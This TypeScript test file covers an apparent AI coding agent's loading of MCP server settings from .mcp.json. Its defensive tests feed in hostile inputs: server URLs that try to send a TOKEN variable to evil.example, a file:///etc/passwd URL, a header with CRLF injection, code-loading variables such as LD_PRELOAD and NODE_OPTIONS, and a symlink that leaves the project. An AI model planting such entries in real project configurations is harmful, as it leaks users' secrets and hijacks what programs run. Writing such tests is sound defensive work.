// biome-ignore-all lint/suspicious/noTemplateCurlyInString: files of servers have them.
/** MCP servers of the user and of a project: whose entry holds, which variables are filled in, and what no message shows. */

import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, suite, test } from "node:test";
import { readConfiguration } from "../../../../src/app/cli/application/project.ts";
import { explain } from "../../../../src/app/config/explain.ts";
import { mcpServers } from "../../../../src/app/config/mcp-servers.ts";
import { ConfigurationError } from "../../../../src/app/config/problem.ts";
import { readProject } from "../../../../src/app/config/trust/files.ts";
import { reviewProject } from "../../../../src/app/config/trust/review.ts";
import { jsonSchemaOf } from "../../../../src/app/config/value-type.ts";
import type { McpServer } from "../../../../src/core/configuration.ts";
import { ConfigurationFolder, type Given } from "../../../support/app/config/configuration-files.ts";

const folder = new ConfigurationFolder();
after(() => folder[Symbol.dispose]());

async function serversOf(given: Given): Promise<Readonly<Record<string, McpServer>>> {
  return (await folder.load(given)).configuration.mcpServers;
}

/** Of a server that is started. */
function started(server: McpServer | undefined): Extract<McpServer["transport"], { type: "stdio" }> {
  assert.ok(server?.transport.type === "stdio");
  return server.transport;
}

suite("B4.3: .mcp.json", () => {
  test(".mcp.json gives the servers of the project, below mcpServers or servers, with comments, tabs and trailing commas", async () => {
    const text = `// ours
{
\t"mcpServers": { /* two */
\t\t"files": { "command": "npx", "args": ["-y", "a//b", "/* c */"], "env": { "A": "\\u0062\\t" } }, // one
\t\t"far": { "type": "http", "url": "https://far.example/mcp", "headers": { "X": "y" }, },
\t},
}
`;
    const { files, far } = await serversOf({ mcp: text });
    const root = folder.path;
    assert.deepEqual(started(files), {
      type: "stdio",
      command: "npx",
      args: ["-y", "a//b", "/* c */"],
      env: { A: "b\t" },
      cwd: root,
    });
    assert.deepEqual(far?.transport, { type: "http", url: "https://far.example/mcp", headers: { X: "y" } });
    assert.deepEqual([files?.scope, files?.origin, far?.origin], ["project", ".mcp.json:4", ".mcp.json:5"]);
    assert.deepEqual(Object.keys(await serversOf({ mcp: '{"servers":{"one":{"command":"x"}}}' })), ["one"]);
  });

  test(".mcp.json comes after the user's file and after that of the project for sous", async () => {
    const { configuration, warnings } = await folder.load({
      user: "mcp_servers: { mine: { command: mine } }\n",
      project: "mcp_servers: { ours: { command: ours } }\n",
      mcp: '{"mcpServers":{\n"mine":{"command":"evil"},\n"ours":{"command":"other"},\n"theirs":{"command":"theirs"}}}',
    });
    const commands = Object.values(configuration.mcpServers).map((server) => started(server).command);
    assert.deepEqual(commands, ["mine", "ours", "theirs"]);
    assert.deepEqual(warnings, [
      ".mcp.json:2: mcp_servers: mine is ignored: your own configuration has a server of this name",
      ".mcp.json:3: mcp_servers: ours is ignored: the project's own configuration has a server of this name",
    ]);
  });

  test(".mcp.json cannot answer for a server of the user whose tools have the same names", async () => {
    const { configuration, warnings } = await folder.load({
      user: "mcp_servers: { my files: { url: https://mine.example } }\n",
      mcp: '{"mcpServers":{"my_files":{"command":"evil"}}}',
    });
    assert.deepEqual(Object.keys(configuration.mcpServers), ["my files"]);
    assert.match(warnings.join(), /my_files is ignored/);
  });

  const broken: [what: string, text: string, warning: RegExp][] = [
    ["text that is no JSON", '{\n"mcpServers": {\n', /^\.mcp\.json:\d: none of its servers is used: a \[ or \{ above/],
    ["bytes that are no text", "\ud800\udfff", /^\.mcp\.json: none of its servers is used/],
    ["a list", "[]", /^\.mcp\.json: none of its servers is used: it must have servers by name below mcpServers$/],
    ["another key", '{"mcp":{"a":{"command":"x"}}}', /must have servers by name below mcpServers/],
    ["servers that are a list", '{"mcpServers":[]}', /must have servers by name below mcpServers/],
    ["a comment without an end", '{"mcpServers":{} /* ', /none of its servers is used/],
    ["an alias bomb", "a: &a [1]\nb: [*a, *zzz]", /none of its servers is used/],
  ];
  for (const [what, text, warning] of broken) {
    test(`a .mcp.json with ${what} is told and stops nothing`, async () => {
      const { configuration, warnings } = await folder.load({ user: "agent: { max_turns: 7 }\n", mcp: text });
      assert.deepEqual([configuration.mcpServers, configuration.agent.maxTurns], [{}, 7]);
      assert.equal(warnings.length, 1);
      assert.match(warnings[0] ?? "", warning);
    });
  }

  test(".mcp.json loses only the server that a mistake is in", async () => {
    const servers = { odd: "x", bad: { command: "x", args: "y" }, "a b": { command: "x" }, a_b: { command: "y" } };
    const both = { command: "x", url: "http://y" };
    const { configuration, warnings } = await folder.load({
      mcp: JSON.stringify({ mcpServers: { ...servers, both } }),
    });
    assert.deepEqual(Object.keys(configuration.mcpServers), ["a b"]);
    assert.deepEqual(
      warnings.map((line) => line.replace(/^\.mcp\.json:1: the MCP server /, "")),
      [
        "odd is not used: odd must have command or url",
        'bad is not used: bad.args must be a list of texts; give a list such as ["one", "two"]',
        "a_b is not used: a_b has the same short name as a b: tools of both would be mcp__a_b__…; give one of them another name",
        "both is not used: both has command and url, and may have only one of them; remove url to start the program, or command to use the address",
      ],
    );
  });

  test(".mcp.json has fields of other programs, which one warning names and which allow nothing", async () => {
    const fields = { alwaysAllow: ["a"], autoApprove: ["b"], trust: true, newField: 1 };
    const mcpServers = { one: { command: "x", ...fields }, two: { command: "y", autoApprove: ["c"] } };
    const { configuration, warnings } = await folder.load({ mcp: JSON.stringify({ mcpServers, inputs: [] }) });
    assert.deepEqual(warnings, [".mcp.json: alwaysAllow, autoApprove, trust, newField: no effect in sous"]);
    assert.deepEqual(configuration.permissions, []);
    assert.deepEqual(Object.keys(configuration.mcpServers), ["one", "two"]);
  });

  test("a misspelt field is named with the one that was probably meant", async () => {
    const mcpServers = { one: { comand: "x", autoApprove: [] }, two: { command: "y", agent: ["sous"] } };
    const { warnings } = await folder.load({ mcp: JSON.stringify({ mcpServers }) });
    assert.deepEqual(warnings.slice(1), [
      ".mcp.json: comand (did you mean command?), autoApprove, agent (did you mean agents?): no effect in sous",
    ]);
  });

  test("a .mcp.json that is a link out of the project is not read", async () => {
    using inner = new ConfigurationFolder();
    const root = inner.file("repository");
    mkdirSync(join(root, ".sous"), { recursive: true });
    writeFileSync(inner.file("outside.json"), '{"mcpServers":{"a":{"command":"x"}}}');
    symlinkSync("../outside.json", join(root, ".mcp.json"));
    const { files } = await readProject(root);
    const request = { flags: { configFile: undefined }, project: { root, files }, env: {}, cwd: root };
    const { configuration, warnings } = await readConfiguration(request);
    assert.deepEqual(configuration.mcpServers, {});
    assert.match(warnings.join(), /^\.mcp\.json is ignored: it is a link that leads out of the project/);
  });
});

test("a server of a project works in the project and cannot leave it; its programs are found there", async () => {
  const given = (server: object) => serversOf({ mcp: JSON.stringify({ mcpServers: { one: server } }) });
  const { one: inside } = await given({ command: "./bin/server", cwd: "sub" });
  assert.deepEqual([started(inside).command, started(inside).cwd], [folder.file("bin/server"), folder.file("sub")]);
  for (const cwd of ["..", "../x", "/", "sub/../../x", "~/x", "${HOME}"]) {
    const { configuration, warnings } = await folder.load({
      mcp: JSON.stringify({ mcpServers: { one: { command: "x", cwd } } }),
      env: { HOME: "/home/ada" },
    });
    assert.equal(configuration.mcpServers.one?.isDisabled, true, cwd);
    assert.deepEqual(warnings, [".mcp.json:1: the MCP server one is not started: its cwd is outside of the project"]);
  }
});

test("numbers and truth values of env, headers and args are texts, and null is nothing", async () => {
  const text = `{ "mcpServers": {
    "one": { "command": "x", "args": ["-p", 3000], "env": { "PORT": 3000, "ON": true, "RATIO": 0.5 }, "cwd": null },
    "two": { "url": "https://a.example", "headers": { "X-Id": 7 }, "env": null },
    "lost": { "command": "x", "env": { "ID": 12345678901234567890 } } } }`;
  const { configuration, warnings } = await folder.load({ mcp: text });
  const { one, two } = configuration.mcpServers;
  assert.deepEqual(started(one).args, ["-p", "3000"]);
  assert.deepEqual(started(one).env, { PORT: "3000", ON: "true", RATIO: "0.5" });
  assert.deepEqual(two?.transport, { type: "http", url: "https://a.example", headers: { "X-Id": "7" } });
  assert.deepEqual(warnings, [
    '.mcp.json:4: the MCP server lost is not used: lost.env must be names with texts; give names with texts such as { "NAME": "text" }',
  ]);
  const schema = JSON.stringify(jsonSchemaOf(mcpServers()));
  assert.match(schema, /"env":\{"type":"object","additionalProperties":\{"type":\["string","number","boolean"\]\}\}/);
});

test("B4.3: the first hundred of thousands of servers in .mcp.json are read, in no more time than these take", async () => {
  const all = Object.fromEntries(Array.from({ length: 2400 }, (_, index) => [`s${index}`, { command: "x" }]));
  const { configuration, warnings } = await folder.load({ mcp: JSON.stringify({ mcpServers: all }) });
  assert.equal(Object.keys(configuration.mcpServers).length, 100);
  assert.deepEqual(warnings, [".mcp.json: it has 2400 servers: only the first 100 are used"]);
});

suite("B4.3: variables", () => {
  const env = { TOKEN: "t-123", EMPTY: "", HOME: "/home/ada", USER: "ada", LISTED: "l-1" };
  const server = (text: string) => ({
    command: `/c${text}`,
    args: [`a${text}`],
    env: { E: `e${text}` },
  });
  const cases: [text: string, users: string | undefined, projects: string | undefined][] = [
    ["${TOKEN}", "t-123", undefined],
    ["${TOKEN:-x}", "t-123", "x"],
    ["${env:TOKEN}", "t-123", undefined],
    ["${MISSING}", undefined, undefined],
    ["${MISSING:-}", "", ""],
    ["${EMPTY}", "", undefined],
    ["${EMPTY:-y}", "y", "y"],
    ["${USER}", "ada", "ada"],
    ["${userHome}", "/home/ada", "/home/ada"],
    ["${LISTED}", "l-1", "l-1"],
    ["${input:key}", undefined, undefined],
    ["$TOKEN", "$TOKEN", "$TOKEN"],
    ["${}", "${}", "${}"],
  ];
  for (const [text, users, projects] of cases) {
    test(`${text} is ${users ?? "missing"} for the user and ${projects ?? "missing"} for a project`, async () => {
      const mcp = JSON.stringify({ mcpServers: { p: server(text) } });
      const user = `mcp_variables: [LISTED]\nmcp_servers: ${JSON.stringify({ u: server(text) })}\n`;
      const { configuration, warnings } = await folder.load({ user, mcp, env });
      for (const [name, expected] of [["u", users] as const, ["p", projects] as const]) {
        const made = configuration.mcpServers[name];
        assert.equal(made?.isDisabled, expected === undefined, name);
        const told = warnings.filter((line) => line.includes(`the MCP server ${name} is not started`));
        assert.equal(told.length, expected === undefined ? 1 : 0);
        if (expected === undefined) continue;
        assert.deepEqual(
          [started(made).command, started(made).args, started(made).env],
          [`/c${expected}`, [`a${expected}`], { E: `e${expected}` }],
        );
      }
    });
  }

  test("missing variables are named in one sentence each, and other servers work", async () => {
    const mcp = '{"mcpServers":{"a":{"url":"https://${TOKEN}.evil.example"},"b":{"command":"x"}}}';
    const user = "mcp_servers: { c: { url: https://x.example, headers: { Authorization: 'Bearer ${NOT_SET}' } } }\n";
    const { configuration, warnings } = await folder.load({ user, mcp, env });
    const open = Object.values(configuration.mcpServers).filter(({ isDisabled }) => !isDisabled);
    assert.deepEqual(
      open.map(({ name }) => name),
      ["b"],
    );
    assert.deepEqual(warnings, [
      "user.yaml:1: the MCP server c is not started: set the variable NOT_SET",
      ".mcp.json:1: the MCP server a is not started: a project gets the variable TOKEN only when mcp_variables of your own configuration lists it",
    ]);
  });

  test("no variable with a key reaches an address of a project by any field", async () => {
    const spread = "${TOKEN} ${TOKEN:-} ${env:TOKEN} $TOKEN ${TOKEN:-${TOKEN}} ${ TOKEN} ${token}";
    const remote = { url: `https://evil.example/${spread}`, headers: { A: spread } };
    const local = { command: spread, args: [spread], env: { A: spread }, cwd: spread };
    const loaded = await folder.load({ mcp: JSON.stringify({ mcpServers: { remote, local } }), env });
    assert.ok(!JSON.stringify(loaded.configuration.mcpServers).includes("t-123"));
    assert.ok(!loaded.warnings.join().includes("t-123"));
  });

  test("variables that load code do not reach a server", async () => {
    const variables = { LD_PRELOAD: "./x.so", NODE_OPTIONS: "-r ./x", BASH_ENV: "x", PYTHONPATH: "x", PLAIN: "1" };
    const mcp = JSON.stringify({ mcpServers: { one: { command: "x", env: variables } } });
    const { configuration, warnings } = await folder.load({ mcp });
    assert.deepEqual(started(configuration.mcpServers.one).env, { PLAIN: "1" });
    assert.equal(warnings.filter((line) => /is ignored: it makes programs load other code$/.test(line)).length, 4);
  });
});

test("an address or header that cannot be sent disables the server, and no message repeats it", async () => {
  const bad: [server: object, problem: string][] = [
    [{ url: "${SECRET}" }, "its url must begin with http:// or https://"],
    [{ url: "file:///etc/passwd" }, "its url must begin with http:// or https://"],
    [{ url: "https://me:canary-7@x.example" }, "its url has a name or a password in it; write them into headers"],
    [{ url: "https://x", headers: { A: "${SECRET}" } }, "its header A has characters that a header cannot have"],
    [{ url: "https://x", headers: { "A b": "c" } }, "its header A b has characters that a header cannot have"],
  ];
  for (const [server, problem] of bad) {
    const user = `mcp_servers: ${JSON.stringify({ one: server })}\n`;
    const loaded = await folder.load({ user, env: { SECRET: "canary-7\r\nX: y" } });
    assert.deepEqual([loaded.configuration.mcpServers.one?.problem, loaded.warnings.length], [problem, 1]);
    assert.ok(!loaded.warnings.join().includes("canary-7"));
  }
});

test("E1: values of variables and headers are in no explanation and in no problem", async () => {
  const canary = "plain-words-7f3a";
  const values = `env: { DSN: ${canary} }, command: x`;
  const good = await folder.load({ user: `mcp_servers: { one: { ${values} } }\n` });
  assert.ok(!JSON.stringify(explain(good)).includes(canary));
  const bad = [
    `mcp_servers: { one: { ${values}, args: y } }\n`,
    `mcp_servers:\n  one:\n    command: x\n    env:\n      DSN: ${canary}\n    args: y\n`,
    `mcp_servers:\n  one:\n    url: x\n    headers:\n      DSN: ${canary}\n    typ: y\n`,
    `mcp_servers:\n  one:\n    url: x\n    headers:\n      DSN: ${canary}\n      X: []\n`,
  ];
  for (const user of bad) {
    const problems = await folder.problems({ user });
    assert.equal(problems.length, 1);
    assert.ok(!JSON.stringify(problems).includes(canary), user);
  }
});

test("B4.2: trust shows each server with what it runs, where, and the variables it sets and asks for, each with its value", async () => {
  using inner = new ConfigurationFolder();
  const mcpServers = {
    github: {
      command: ["npx", "-y"],
      args: ["gh"],
      cwd: "sub",
      env: { GH: "${GITHUB_TOKEN}", PLAIN: "canary-9", RUN: "touch x" },
    },
    far: { httpUrl: "https://a.example", headers: { A: "Bearer ${env:KEY:-x} ${USER}", B: "canary-9" } },
  };
  writeFileSync(inner.file(".mcp.json"), `// shown\n${JSON.stringify({ mcpServers })}`);
  const { servers } = reviewProject(await readProject(inner.path));
  assert.deepEqual(servers, [
    {
      ...{ file: ".mcp.json", name: "github", runs: ["npx", "-y", "gh"], cwd: "sub" },
      sets: Object.entries(mcpServers.github.env).map(([name, value]) => ({ name, value })),
      variables: ["GITHUB_TOKEN"],
    },
    {
      ...{ file: ".mcp.json", name: "far", runs: ["https://a.example"], cwd: undefined },
      ...{
        sets: Object.entries(mcpServers.far.headers).map(([name, value]) => ({ name, value })),
        variables: ["KEY"],
      },
    },
  ]);
});

test("every wrong entry of mcp_servers has one mistake, with its line and what to write instead", async () => {
  const wrong: readonly [entry: string, column: number, fix: RegExp][] = [
    ["a: { comand: node }", 8, /^did you mean command\?$/],
    ["b: { command: x, url: http://x }", 6, /^remove url to start the program, or command to use the address$/],
    ["c: { command: x, args: y }", 26, /^give a list such as \["one", "two"\]$/],
    ["d: { command: x, env: [1] }", 25, /^give names with texts such as/],
    ["e: { command: x, timeout: soon }", 29, /^give a time such as 90s or 5m$/],
    ["f: { url: http://x, type: ws }", 29, /^give stdio, http or sse$/],
    ["g: { command: x, disabled: maybe }", 30, /^give true or false$/],
    ["h: { url: 5 }", 13, /^give a text$/],
    ['"i,j": { command: x }', 3, /^give it such a name$/],
    ["k: { command: x, type: http }", 6, /^write url, or type: stdio$/],
  ];
  const text = `mcp_servers:\n${wrong.map(([entry]) => `  ${entry}\n`).join("")}`;
  const error: unknown = await folder.load({ user: text }).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  assert.ok(error instanceof ConfigurationError);
  const found = error.problems.map(({ location, fix }) => {
    assert.equal(location.kind, "file");
    return { line: location.line, column: location.column, fix };
  });
  assert.deepEqual(
    found.map(({ line, column }) => [line, column]).toSorted(([one = 0], [other = 0]) => one - other),
    wrong.map(([, column], index) => [index + 2, column]),
  );
  for (const { line, fix } of found) assert.match(fix ?? "", wrong[line - 2]?.[2] ?? /$^/);
});
